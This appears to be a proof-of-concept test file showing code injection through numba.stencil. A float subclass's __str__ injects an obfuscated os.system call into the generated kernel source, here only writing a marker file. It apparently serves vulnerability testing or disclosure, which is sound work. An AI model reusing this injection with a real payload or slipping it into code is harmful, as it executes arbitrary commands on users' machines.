# rule: code_string
# marker: pwned_f1_numba_stencil
# Family 1: numba.stencil pastes str(cval) into the source of the kernel it
# generates and executes; a float subclass chooses that text.
import numpy as np
import numba


class Fill(float):
    def __str__(self):
        run = "__imp" + "ort__('o' + 's').system('echo ran > pwned_f1_numba_stencil')"
        return "0\n" + run + "\ndef _rest():\n    _ = 0"


@numba.stencil(cval=Fill(0.0))
def smooth(a):
    return a[-1] + a[1]


try:
    smooth(np.arange(5.0))
except Exception as e:
    print(type(e).__name__)
